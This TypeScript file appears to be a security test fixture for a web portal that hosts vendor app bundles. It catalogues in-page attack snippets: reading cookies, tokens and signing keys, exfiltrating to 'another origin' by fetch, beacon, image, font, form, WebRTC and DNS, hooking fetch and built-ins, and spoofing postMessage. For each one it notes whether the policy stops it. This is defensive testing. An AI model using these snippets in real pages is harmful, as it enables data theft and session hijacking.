/** What code of a vendor in the page of the portal is tried with, and what comes of it. `docs/vendors/trust.md` has the same rows. */
export type Attack = {
  name: string
  what: string
  isHeld: boolean
  /** What holds it, or why nothing does. */
  why: string
  /**
   * The body of an async function in the bundle: true when it got what it wanted. `to(name)` is an address of another origin, whose server
   * notes what arrives.
   */
  code: string
  /** It counts when something arrives at the other origin, whatever the code says. */
  sends?: true
}

const sends = (name: string, what: string, why: string, code: string): Attack => ({
  name,
  what,
  isHeld: true,
  why,
  code,
  sends: true,
})

const reading: Attack[] = [
  {
    name: 'read-cookie',
    what: 'Read the cookie of the session',
    isHeld: true,
    why: 'No script reads it (`HttpOnly`)',
    code: `return document.cookie.includes('center_session')`,
  },
  {
    name: 'read-token',
    what: 'Read the token of this tab',
    isHeld: false,
    why: 'It lies in the storage of the tab, as the specification has it. Alone it calls nothing: each call is signed',
    code: `return [...Object.values(sessionStorage), ...Object.values(localStorage)].some((text) => /[\\w-]{43}/.test(text))`,
  },
  {
    name: 'read-key',
    what: 'Read the key that signs calls, to use it elsewhere',
    isHeld: true,
    why: 'The browser keeps it, and gives its bytes to no script',
    code: `for (const key of await storedKeys()) await crypto.subtle.exportKey('raw', key)
      return (await storedKeys()).length > 0`,
  },
  {
    name: 'use-key',
    what: 'Sign a call with that key, in this page',
    isHeld: false,
    why: 'Code in the page has the rights of its user for as long as the page is open',
    code: `const [key] = await storedKeys()
      return (await crypto.subtle.sign('HMAC', key, new Uint8Array(8))).byteLength > 0`,
  },
  {
    name: 'read-other-guest',
    what: 'Read what the user types into another app in the page',
    isHeld: false,
    why: 'They share the page. An isolated app, and a page of another origin, cannot be read',
    code: `return fieldsOf('@apps/notepad').some((field) => field.value.includes('PRIVATE'))`,
  },
  {
    name: 'read-isolated-guest',
    what: 'Read what the user types into an isolated app',
    isHeld: true,
    why: 'Its frame has an origin of its own',
    code: `return frameOf('@apps/energy').contentWindow.document.body.textContent.length > 0`,
  },
  {
    name: 'read-frame',
    what: 'Read the page of an owner in a frame',
    isHeld: true,
    why: 'It has another origin',
    code: `return frameOf('legacy-erp').contentWindow.document.body.textContent.length > 0`,
  },
  {
    name: 'read-password',
    what: 'Find a field for a password',
    isHeld: true,
    why: 'No such field is drawn in a document in which a bundle of an app has run',
    code: `return document.querySelector('input[type=password]') !== null`,
  },
]

const running: Attack[] = [
  {
    name: 'eval',
    what: 'Make code of a text',
    isHeld: true,
    why: 'The policy has no `unsafe-eval`',
    code: `return new Function('return true')()`,
  },
  {
    name: 'string-timer',
    what: 'Make code of a text by a timer',
    isHeld: true,
    why: 'Likewise',
    code: `return new Promise((resolve) => { window.ran = () => resolve(true); setTimeout('window.ran()'); setTimeout(() => resolve(false), 300) })`,
  },
  {
    name: 'inline-handler',
    what: 'Write markup with a handler in it',
    isHeld: true,
    why: 'Trusted Types refuse text as HTML, but for the tag of one custom element',
    code: `window.handled = false
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.handled = true">')
      return new Promise((resolve) => setTimeout(() => resolve(window.handled), 300))`,
  },
  {
    name: 'foreign-script',
    what: 'Load a script of another origin',
    isHeld: true,
    why: 'The policy names folders of the portal alone',
    code: `return load('script', 'src', to('script'))`,
    sends: true,
  },
  {
    name: 'own-policy',
    what: 'Make a policy of Trusted Types of its own',
    isHeld: true,
    why: 'The names that there are are taken',
    code: `return Boolean(trustedTypes.createPolicy('mine', { createHTML: (text) => text }))`,
  },
  {
    name: 'blob-worker',
    what: 'Start a worker of its own making, from an empty frame',
    isHeld: false,
    why: '`worker-src` allows `blob:`, which libraries need. Such a worker has the origin and the policy of the page, and no document',
    code: `const { contentWindow } = document.body.appendChild(document.createElement('iframe'))
      const pass = contentWindow.trustedTypes.createPolicy('default', { createScriptURL: (text) => text })
      const address = URL.createObjectURL(new Blob(['postMessage(true)'], { type: 'text/javascript' }))
      const worker = new contentWindow.Worker(pass ? address : address)
      return new Promise((resolve) => { worker.onmessage = () => resolve(true); worker.onerror = () => resolve(false) })`,
  },
]

const HELD = 'The policy names no other origin'
const sending: Attack[] = [
  sends('fetch', 'Send data by `fetch`', HELD, `await fetch(to('fetch'), { mode: 'no-cors' })`),
  sends(
    'xhr',
    'Send data by XMLHttpRequest',
    HELD,
    `const request = new XMLHttpRequest(); request.open('GET', to('xhr')); request.send()`,
  ),
  sends('beacon', 'Send data by a beacon', HELD, `navigator.sendBeacon(to('beacon'), 'data')`),
  sends('event-source', 'Send data by an event stream', HELD, `new EventSource(to('event-source'))`),
  sends('web-socket', 'Send data by a WebSocket', HELD, `new WebSocket(to('web-socket').replace('http', 'ws'))`),
  sends('image', 'Send data by the address of a picture', HELD, `new Image().src = to('image')`),
  sends(
    'style',
    'Send data by an address in a style',
    HELD,
    `document.body.style.backgroundImage = 'url(' + to('style') + ')'`,
  ),
  sends(
    'font',
    'Send data by the address of a font',
    HELD,
    `await new FontFace('stolen', 'url(' + to('font') + ')').load()`,
  ),
  sends('sheet', 'Send data by a style sheet', HELD, `return load('link', 'href', to('sheet'), { rel: 'stylesheet' })`),
  sends('media', 'Send data by a film', HELD, `return load('video', 'src', to('media'), { preload: 'auto' })`),
  sends('child-frame', 'Send data by the address of a frame', HELD, `return load('iframe', 'src', to('child-frame'))`),
  sends(
    'prefetch',
    'Send data by a hint to fetch ahead',
    HELD,
    `return load('link', 'href', to('prefetch'), { rel: 'prefetch' })`,
  ),
  sends(
    'preload',
    'Send data by a hint to load',
    HELD,
    `return load('link', 'href', to('preload'), { rel: 'preload', as: 'image' })`,
  ),
  sends(
    'form',
    'Send data by a form',
    'The policy lets forms lead to the portal alone',
    `const form = document.body.appendChild(document.createElement('form'))
      Object.assign(form, { action: to('form'), method: 'post', target: '_blank' }).submit()`,
  ),
  sends(
    'ping',
    'Send data by the ping of a link',
    HELD,
    `const link = document.body.appendChild(document.createElement('a'))
      Object.assign(link, { href: '#', ping: to('ping') }).click()`,
  ),
  {
    name: 'open-window',
    what: 'Send data by the address of a new window',
    isHeld: false,
    why: 'No policy of browsers holds navigation. The user sees a window that opens; review looks for it',
    code: `window.open(to('open-window'), '_blank', 'popup')`,
    sends: true,
  },
  {
    name: 'web-rtc',
    what: 'Send data by WebRTC',
    isHeld: false,
    why: 'Browsers have no directive for it that works. An isolated app has no WebRTC',
    code: `const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] })
      connection.createDataChannel('data')
      await connection.setLocalDescription(await connection.createOffer())
      connection.close()
      return true`,
  },
  {
    name: 'dns',
    what: 'Send a few letters by the look-up of a host name',
    isHeld: false,
    why: 'A hint such as `dns-prefetch` asks the name server of that name; no directive covers it',
    code: `const link = document.createElement('link')
      document.head.append(Object.assign(link, { rel: 'dns-prefetch', href: '//data.of.the.user.invalid' }))
      return link.isConnected`,
  },
]

const changing: Attack[] = [
  {
    name: 'replace-fetch',
    what: 'Replace `fetch` and XMLHttpRequest, to see the calls of the portal',
    isHeld: true,
    why: 'The portal took its own before any app came',
    code: `window.seen = []
      const { fetch } = window
      window.fetch = (...asked) => { window.seen.push(String(asked[0])); return fetch(...asked) }
      const { open } = XMLHttpRequest.prototype
      XMLHttpRequest.prototype.open = function (...asked) { window.seen.push(String(asked[1])); return open.apply(this, asked) }
      await window.actOfPortal()
      return window.seen.some((address) => address.includes('/api/'))`,
  },
  {
    name: 'replace-history',
    what: 'Replace `history.pushState`, to keep the portal where it is',
    isHeld: true,
    why: 'Likewise',
    code: `const { pushState } = history
      history.pushState = () => undefined
      const before = location.href
      await window.actOfPortal()
      history.pushState = pushState
      return location.href === before`,
  },
  {
    name: 'replace-loader',
    what: 'Name another file for an app of the portal',
    isHeld: true,
    why: 'Names of the portal lead to its own files, whatever is added to the import map',
    code: `System.addImportMap({ imports: { '@center/notices': '/api/resources/none.js' } })
      return System.resolve('@center/notices').includes('none.js')`,
  },
  {
    name: 'replace-built-in',
    what: 'Replace functions of the language that everything in the page calls',
    isHeld: false,
    why: 'They share the page. What a bundle may load is decided by the policy and the server, which do not depend on them',
    code: `const { map } = Array.prototype
      let calls = 0
      Array.prototype.map = function (...asked) { calls += 1; return map.apply(this, asked) }
      await window.actOfPortal()
      Array.prototype.map = map
      return calls > 0`,
  },
]

const speaking: Attack[] = [
  {
    name: 'spoof-message',
    what: 'Send the portal a message as if a frame did: the session ends',
    isHeld: true,
    why: 'A message counts from the window and the origin of its frame alone',
    code: `for (const message of [{ type: 'loginstate', payload: false }, { v: 1, id: '1', type: 'loginstate', payload: false }])
        window.postMessage(message, '*')
      await new Promise((resolve) => setTimeout(resolve, 300))
      return document.querySelector('[role=dialog]') !== null || !location.pathname.startsWith('/center/')`,
  },
  {
    name: 'use-other-host',
    what: 'Speak to the portal in the name of another app in the page',
    isHeld: false,
    why: 'They share the page, and the host API is a property of the other element',
    code: `return typeof hostOf('@apps/notepad')?.post === 'function'`,
  },
]

/** What a bundle leaves behind on purpose is looked for after its tab was closed. */
const staying: Attack[] = [
  {
    name: 'stay-sheet',
    what: 'Leave a style sheet behind when its tab is closed',
    isHeld: false,
    why: 'The portal takes out elements that came while the app was mounted; a constructed sheet of the document stays',
    code: `return [...document.adoptedStyleSheets].some((sheet) => [...sheet.cssRules].some((rule) => rule.cssText.includes('left-behind')))`,
  },
  {
    name: 'stay-timer',
    what: 'Run on when its tab is closed',
    isHeld: false,
    why: 'A page cannot stop code that is in it. The tests of leaks look for it, and review',
    code: `const before = window.ticks
      for (let waited = 0; waited < 100 && window.ticks === before; waited += 1) await new Promise((resolve) => setTimeout(resolve, 50))
      return window.ticks > before`,
  },
]

/** Last, since the page is gone then. */
const leaving: Attack[] = [
  {
    name: 'navigate',
    what: 'Send data by leading the whole window elsewhere',
    isHeld: false,
    why: 'No policy of browsers holds navigation. The user sees the portal go; review looks for it, and a frame cannot',
    code: `location.href = to('navigate')`,
    sends: true,
  },
]

export const whileMounted = [...reading, ...running, ...sending, ...changing, ...speaking]
export { leaving, staying }
export const attacks: readonly Attack[] = [...whileMounted, ...staying, ...leaving]

/** What the bundle brings: each attack by its name, and what they share. */
export const attackCode = `
  const all = (root) => [...root.querySelectorAll('*')].flatMap((node) => [node, ...(node.shadowRoot ? all(node.shadowRoot) : [])])
  const fieldsOf = (app) => all(document.querySelector('[data-app="' + app + '"]')).filter(({ localName }) => localName === 'textarea')
  const frameOf = (app) => document.querySelector('[data-app="' + app + '"] iframe')
  const hostOf = (app) => all(document.querySelector('[data-app="' + app + '"]')).find((node) => 'host' in node && node.localName.includes('-'))?.host
  const load = (tag, property, address, more = {}) => new Promise((resolve) => {
    const node = Object.assign(document.createElement(tag), more, { onload: () => resolve(false), onerror: () => resolve(false) })
    node[property] = address
    document.head.append(node)
    setTimeout(() => resolve(false), 500)
  })
  const storedKeys = () => new Promise((resolve, reject) => {
    const opened = indexedDB.open('center')
    opened.onerror = reject
    opened.onsuccess = () => {
      try {
        const asked = opened.result.transaction('keys').objectStore('keys').getAll()
        asked.onsuccess = () => resolve(asked.result.map(({ key }) => key))
        asked.onerror = reject
      } catch (error) {
        reject(error)
      }
    }
  })
  const to = (name) => window.otherOrigin + '/' + name
  window.ticks = 0
  setInterval(() => (window.ticks += 1), 50)
  window.dressUp = () => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync('.left-behind { color: red }')
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
  }
  window.attacks = {
    ${attacks.map(({ name, code }) => `${JSON.stringify(name)}: async () => { ${code} },`).join('\n    ')}
  }
`
